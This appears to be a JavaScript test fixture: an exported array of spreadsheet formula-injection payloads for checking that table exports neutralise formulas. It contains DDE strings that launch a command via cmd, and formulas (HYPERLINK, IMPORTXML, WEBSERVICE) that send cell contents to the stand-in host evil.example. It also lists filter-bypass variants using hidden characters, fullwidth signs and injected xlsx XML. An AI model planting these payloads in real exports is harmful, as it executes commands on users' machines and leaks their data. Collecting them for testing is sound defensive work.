// Texts that a table would compute, as people who test offices write them; each once stood in an export that ran it.
export const formulas = [
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example?x="&A1,"жауап")', '=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")', '=WEBSERVICE("https://evil.example")',
  '+1+1', '+cmd|\' /C calc\'!A0', '-1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1',
  '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '|cmd', '%0A=1+1', '";=1+1', '"=1+1"', 'a";=cmd|\' /C calc\'!A0;"', 'a\r\n=1+1', 'a\t=1+1', '_x003D_1+1', '\u0000=1+1', ']]><f>1+1</f>', '</t></is></c><c><f>1+1</f></c>',
]
